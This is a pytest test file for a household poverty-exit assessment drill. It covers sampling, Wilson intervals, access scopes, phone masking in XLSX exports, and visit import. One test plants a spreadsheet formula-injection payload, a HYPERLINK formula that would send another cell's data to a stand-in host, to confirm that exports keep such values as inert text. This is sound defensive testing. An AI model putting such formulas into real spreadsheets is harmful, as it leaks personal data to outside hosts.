"""The pre-assessment drill: reproducible sample, visit sheet, visits, rates with Wilson CIs."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from tuopin.assess import actions, drill
from tuopin.assess.models import Drill, DrillHousehold
from tuopin.assess.tests.factories import household
from tuopin.org.models import AuditEvent
from tuopin.registry.models import Household, PersonalDataView

AS_OF = dt.date(2018, 7, 20)


@pytest.fixture
def county(world):
    for village in (world.cg_village, world.cg_village2, world.df_village, world.df_village2):
        for index in range(6):
            household(village, housing_grade="D" if index == 0 else "A")
            household(village, is_registered=False, phone="13900002222")
    return world


def test_it_draws_the_same_sample_for_the_same_seed(county):
    first = drill.draw(county.county.code, seed=3, villages=3, households=12)
    again = drill.draw(county.county.code, seed=3, villages=3, households=12)
    other = drill.draw(county.county.code, seed=4, villages=3, households=12)
    assert first == again
    assert first != other
    assert len({s.village_code for s in first}) == 3
    assert len(first) == 12
    assert sum(s.registered for s in first) == 6  # half registered, half not


def test_it_prefers_poor_villages(county):
    sample = drill.draw(county.county.code, seed=1, villages=2, households=8)
    codes = {s.village_code for s in sample}
    assert codes == {county.cg_village.code, county.df_village.code}  # the two poor villages


def test_it_computes_wilson_intervals():
    low, high = drill.wilson(0, 10)
    assert (round(low, 4), round(high, 4)) == (0.0, 0.2775)
    low, high = drill.wilson(5, 10)
    assert (round(low, 4), round(high, 4)) == (0.2366, 0.7634)


def test_it_creates_a_drill_with_the_systems_verdicts(county, login):
    response = login(county.hq).post(
        "/assess/drills/", {"seed": "5", "villages": "4", "households": "16", "as_of": "2018-07-20"}
    )
    created = Drill.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/assess/drills/{created.pk}/"
    rows = list(created.households.order_by("sequence"))
    assert len(rows) == 16
    assert [r.sequence for r in rows] == list(range(1, 17))
    failing = [r for r in rows if not r.predicted_pass]
    assert all(r.household.housing_grade == "D" for r in failing)
    assert AuditEvent.objects.filter(action="创建预评估演练").count() == 1


@pytest.mark.parametrize("who", ["viewer", "cadre", "inspector"])
def test_it_lets_only_hq_create_a_drill(county, login, who):
    response = login(getattr(county, who)).post("/assess/drills/", {"seed": "5"})
    assert response.status_code == 403
    assert Drill.objects.count() == 0


def _drill(county, households=16):
    return actions.create_drill(
        county.hq, area=county.county, seed=5, as_of=AS_OF, villages=4, households=households
    )


def test_it_records_a_visit_from_the_web(county, login):
    created = _drill(county)
    sampled = created.households.filter(village_code__startswith=county.chengguan.code).first()
    response = login(county.cadre).post(
        f"/assess/drills/{created.pk}/visit/{sampled.sequence}/",
        {"meets_standard": "否", "approval": "认可", "note": "住房D级"},
    )
    assert response.status_code == 302
    sampled.refresh_from_db()
    assert (sampled.meets_standard, sampled.approval, sampled.note) == (False, "approve", "住房D级")
    assert sampled.visited_by == county.cadre


def test_it_hides_another_towns_sample_from_a_cadre(county, login):
    created = _drill(county)
    sampled = created.households.filter(village_code__startswith=county.chengguan.code).first()
    response = login(county.other_cadre).post(
        f"/assess/drills/{created.pk}/visit/{sampled.sequence}/", {"meets_standard": "是"}
    )
    assert response.status_code == 404
    sampled.refresh_from_db()
    assert sampled.meets_standard is None


def test_it_forbids_a_viewer_to_record_visits(county, login):
    created = _drill(county)
    sampled = created.households.first()
    response = login(county.viewer).post(
        f"/assess/drills/{created.pk}/visit/{sampled.sequence}/", {"meets_standard": "是"}
    )
    assert response.status_code == 403
    sampled.refresh_from_db()
    assert sampled.visited_at is None


def test_it_shows_the_drill_page_by_scope(county, login):
    created = _drill(county)
    url = f"/assess/drills/{created.pk}/"
    assert login(county.hq).get(url).status_code == 200
    cadre_page = login(county.cadre).get(url)
    assert cadre_page.status_code == 200
    assert {r.village_code[:9] for r in cadre_page.context["rows"]} == {county.chengguan.code}
    assert login(county.viewer).get(url).status_code == 200
    assert login(county.reporter).get(url).status_code == 404
    assert login(None).get(url).status_code == 302


@pytest.mark.parametrize(
    ("who", "phone_shown"),
    [("hq", True), ("cadre", True), ("viewer", False), ("leader", False), ("inspector", False)],
)
def test_it_exports_the_visit_sheet_masking_phones_for_viewers(county, login, who, phone_shown):
    created = _drill(county)
    user = getattr(county, who)
    response = login(user).get(f"/assess/drills/{created.pk}/sheet.xlsx")
    assert response.status_code == 200
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(response.content))
        .get_sheet_by_name("走访表")
        .to_python()
    )
    assert rows[0][:2] == ["序号", "户编号"]
    visible = created.households.visible_to(user).count()
    assert len(rows) == 1 + visible
    phones = {row[5] for row in rows[1:] if row[6] == "否"}
    assert phones == ({"13900002222"} if phone_shown else {"139****2222"})
    views = PersonalDataView.objects.filter(user=user, via="export")
    assert views.count() == (1 if phone_shown else 0)
    if phone_shown:
        assert views.get().scope_code == user.scope.code


def test_the_visit_sheet_keeps_formulas_as_text(county, login, xlsx_formulas):
    created = _drill(county)
    first = created.households.select_related("household").order_by("sequence").first()
    Household.objects.filter(pk=first.household_id).update(
        head_name='=HYPERLINK("http://x/?d="&E5,"查看")', group_name="+1"
    )
    DrillHousehold.objects.filter(pk=first.pk).update(note="=1+2")
    response = login(county.hq).get(f"/assess/drills/{created.pk}/sheet.xlsx")
    assert xlsx_formulas(response.content) == []
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(response.content))
        .get_sheet_by_name("走访表")
        .to_python()
    )
    assert (rows[1][3], rows[1][4], rows[1][12]) == (
        "+1",
        '=HYPERLINK("http://x/?d="&E5,"查看")',
        "=1+2",
    )


def _filled_sheet(created, answers) -> bytes:
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, {"in_memory": True})
    sheet = workbook.add_worksheet("走访表")
    sheet.write_row(0, 0, ["序号", "户编号", "核实达标", "群众认可", "走访说明"])
    for index, (sampled, meets, approval) in enumerate(answers, start=1):
        sheet.write_row(
            index, 0, [sampled.sequence, sampled.household.household_no, meets, approval, ""]
        )
    workbook.close()
    return output.getvalue()


def test_it_imports_visits_and_computes_the_rates(county, login):
    created = _drill(county)
    rows = list(created.households.select_related("household").order_by("sequence"))
    answers = []
    for sampled in rows:
        meets = "否" if sampled.household.housing_grade == "D" else "是"
        answers.append((sampled, meets, "认可" if sampled.sequence % 4 else "不认可"))
    client = login(county.hq)
    upload = io.BytesIO(_filled_sheet(created, answers))
    upload.name = "visits.xlsx"
    response = client.post(f"/assess/drills/{created.pk}/import/", {"file": upload})
    assert response.status_code == 302
    assert DrillHousehold.objects.filter(drill=created, visited_at__isnull=False).count() == 16
    page = client.get(f"/assess/drills/{created.pk}/")
    rates = {rate.label: rate for rate in page.context["rates"]}
    exited = [r for r in rows if r.exited]
    wrong = [r for r in exited if r.household.housing_grade == "D"]
    assert rates["错退率"].numerator == sum(r.persons for r in wrong)
    assert rates["错退率"].denominator == sum(r.persons for r in exited)
    assert rates["漏评率"].numerator == 0
    assert rates["群众认可度"].numerator == 12
    assert rates["群众认可度"].denominator == 16
    assert rates["群众认可度"].value == Decimal(75)
    assert rates["群众认可度"].passed is False  # 75 % is not above 90 %
    low, high = rates["群众认可度"].interval
    assert (low, high) == (Decimal("50.5017"), Decimal("89.8179"))  # Wilson, z = 1.96


def test_it_rejects_a_sheet_with_a_bad_row_and_writes_nothing(county, login):
    created = _drill(county)
    rows = list(created.households.select_related("household").order_by("sequence"))
    answers = [(rows[0], "是", "认可"), (rows[1], "可能", "认可")]
    upload = io.BytesIO(_filled_sheet(created, answers))
    upload.name = "visits.xlsx"
    response = login(county.hq).post(
        f"/assess/drills/{created.pk}/import/", {"file": upload}, follow=True
    )
    text = response.content.decode()
    assert "第 3 行“核实达标”列（可能）" in text
    assert DrillHousehold.objects.filter(drill=created, visited_at__isnull=False).count() == 0


def test_it_builds_demo_data_once(county):
    from tuopin.assess.models import RuleParameter, VillageBaseline
    from tuopin.lib import clock
    from tuopin.synth import assess_demo

    lines: list[str] = []
    with clock.frozen("2018-07-20T10:00:00+08:00"):
        assess_demo.populate(county.county, seed=1, log=lines.append)
        first = list(
            DrillHousehold.objects.order_by("sequence").values_list("household_id", flat=True)
        )
        assess_demo.populate(county.county, seed=1, log=lines.append)
    assert Drill.objects.count() == 1
    assert RuleParameter.objects.filter(scope_code="610327").count() == 3
    assert VillageBaseline.objects.filter(year=2017).count() == 4
    assert len(first) == 48  # every household of the 4 small villages (fewer than 1,500)
    assert DrillHousehold.objects.filter(visited_at__isnull=False).count() == 48 * 2 // 5
    assert lines[-1] == "退出评估：已存在，跳过"


def test_it_shows_a_large_sample_one_village_at_a_time(county, login, monkeypatch):
    from tuopin.assess import views

    monkeypatch.setattr(views, "DRILL_ROWS_AT_ONCE", 5)
    created = _drill(county)
    client = login(county.hq)
    page = client.get(f"/assess/drills/{created.pk}/")
    first = min(r.village_code for r in created.households.all())
    assert page.context["shown_village"] == first
    assert {r.village_code for r in page.context["shown"]} == {first}
    other = client.get(f"/assess/drills/{created.pk}/?village={county.df_village.code}")
    assert {r.village_code for r in other.context["shown"]} == {county.df_village.code}
    sampled = created.households.filter(village_code=county.df_village.code).first()
    response = client.post(
        f"/assess/drills/{created.pk}/visit/{sampled.sequence}/", {"meets_standard": "是"}
    )
    assert response["Location"] == f"/assess/drills/{created.pk}/?village={county.df_village.code}"
